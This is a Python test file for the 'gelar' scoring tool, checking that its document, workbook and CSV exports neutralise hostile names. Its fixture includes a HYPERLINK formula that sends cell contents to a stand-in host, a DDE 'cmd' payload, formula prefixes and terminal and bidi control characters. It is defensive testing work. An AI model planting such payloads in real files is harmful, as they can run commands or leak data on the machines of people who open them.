"""Names that attack the files gelar writes: formulas, control characters, bidi overrides.

``check`` refuses control and bidi characters in an event file, but the writers do not
rely on it: the event here is built in Python, past the check, as a file edited after
it was checked (or a future field nobody checks) would reach them.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from gelar_tui.results import document, export
from gelar_tui.day.facade import Day, ScoreRow
from gelar_tui.event.eventfile import load_event
from gelar_tui.i18n import Messages
from gelar_tui.paper.forms import group_form, juror_form
from gelar_tui.printable import UNSAFE, csv_cell, printable, unguarded
from gelar_tui.results.results_workbook import results_workbook
from gelar_tui.paper.sheets import parse_sheet
from gelar_tui.paper.slips import slips_html
from gelar_tui.paper.workbook import forms_workbook
from gelar_tui.paper.workbook_read import read_workbook
from gelar_tui.scoring.day_results import results_of
from tests.support.screens import CRITERIA, JURORS, demo_source

HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'
NAMES = {"berlian": HYPERLINK, "ceria": "+1+cmd|' /C calc'!A0", "melati": "@SUM(1+1)", "cp-joss": "-2+3"}
TITLE = "Gelar \x1b[31mBudaya\x07 \u202eajreK\u202c Kerja"
BIDI = "\u2066Juri\u2069 \u202dSwasta\u202a"


@pytest.fixture
def day(tmp_path: Path):
    source = tmp_path / "gelar.toml"
    source.write_text(demo_source(), encoding="utf-8")
    event = load_event(source)
    groups = tuple(dataclasses.replace(g, name=NAMES[g.id], agency="\tTab " + g.agency) for g in event.groups)
    jurors = (event.jurors[0], dataclasses.replace(event.jurors[1], name=BIDI))
    hostile = dataclasses.replace(event, event=dataclasses.replace(event.event, title=TITLE), groups=groups, jurors=jurors)
    opened = Day.open(hostile, tmp_path / "hostile.gelar-journal", origin="cli")
    opened.import_scores([ScoreRow(g, j, c, "80") for g in NAMES for j in JURORS for c in CRITERIA])
    yield opened
    opened.close()


def test_no_control_or_bidi_character_reaches_a_document(day):
    t = Messages("id")
    results = results_of(day)
    texts = {
        "text": export.to_text(day, results, t),
        "md": document.render(day, results, t, "md"),
        "html": document.render(day, results, t, "html"),
        "form": juror_form(day.event, day.state.order, day.event.jurors[1], t),
        "panel": group_form(day.event, "berlian", 1, t),
        "slips": slips_html(day.event, {"swasta": "123456"}, "http://127.0.0.1:8000", t, {"swasta": "gelar jury ev.toml --juror swasta"}),
    }
    for name, text in texts.items():
        assert not UNSAFE.search(text), name
        assert "\ufffd" in text, name  # the reader sees that something was there
    assert "Gelar \ufffd[31mBudaya\ufffd \ufffdajreK\ufffd Kerja" in texts["html"]


def test_workbooks_store_names_as_text_and_do_not_crash(day, tmp_path):
    t = Messages("id")
    book = openpyxl.load_workbook(io.BytesIO(results_workbook(day, results_of(day), t)))
    ranking = book.worksheets[0]
    names = [ranking.cell(row, 2) for row in range(5, 9)]
    assert sorted(c.value for c in names) == sorted(NAMES.values())
    assert all(c.data_type == "s" and c.quotePrefix for c in names)
    assert ranking.cell(1, 1).value.startswith("Gelar \ufffd[31mBudaya\ufffd")
    assert ranking.cell(4, 5).value == printable(BIDI)
    detail = book.worksheets[1]
    assert all(detail.cell(row, 2).data_type == "s" for row in range(5, detail.max_row + 1))

    raw = forms_workbook(day.event, day.state.order, day.event.jurors, t)
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "HYPERLINK" in sheet_xml and "<f>HYPERLINK" not in sheet_xml  # text, not a formula
    assert sheet_xml.count("<f>") == len(NAMES)  # only the weighted totals are formulas
    filled = openpyxl.load_workbook(io.BytesIO(raw))
    form = filled.worksheets[0]
    assert all(form.cell(row, 2).data_type == "s" for row in range(5, 9))
    assert {form.cell(row, 2).value for row in range(5, 9)} >= {f"{NAMES['berlian']} (\tTab RSUD Gambiran)"}
    # a filled score still reads back, as this event's workbook
    form.cell(5, 3).value = 77
    out = io.BytesIO()
    filled.save(out)
    rows, problems = read_workbook(out.getvalue(), "scores.xlsx", day.event)
    assert problems == [] and [(r.group, r.juror, r.criterion, r.value) for r in rows] == [(form.cell(5, 1).value, "pemprov", "analisis", "77")]


def test_csv_cells_that_would_run_are_guarded_and_read_back(day):
    data = export.ranking_data(day)
    text = export.to_csv(data, day.event.juror_ids)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert sorted(r["name"] for r in rows) == sorted("'" + name for name in NAMES.values())
    assert all(r["agency"].startswith("'\tTab ") for r in rows)
    assert sorted(unguarded(r["name"]) for r in rows) == sorted(NAMES.values())
    assert all(float(r["score"]) == 80 and not r["score"].startswith("'") for r in rows)  # numbers stay numbers
    assert csv_cell(-1.5) == -1.5 and csv_cell("KBK Melati") == "KBK Melati"


def test_a_guarded_scores_csv_still_imports():
    text = "juror,group,criterion,score\n'-pemprov,berlian,analisis,80\nswasta,berlian,analisis,'+85\n"
    rows, problems = parse_sheet(text, "scores.csv")
    assert problems == []
    assert [(r.juror, r.value) for r in rows] == [("-pemprov", "80"), ("swasta", "+85")]


def test_json_and_toml_keep_the_text_exact_without_raw_control_characters(day):
    import json
    import tomllib

    data = export.ranking_data(day)
    for text, load in ((export.to_json(data), json.loads), (export.to_toml(data), tomllib.loads)):
        assert not UNSAFE.search(text)
        back = load(text)
        assert back["event"] == TITLE and sorted(r["name"] for r in back["ranking"]) == sorted(NAMES.values())
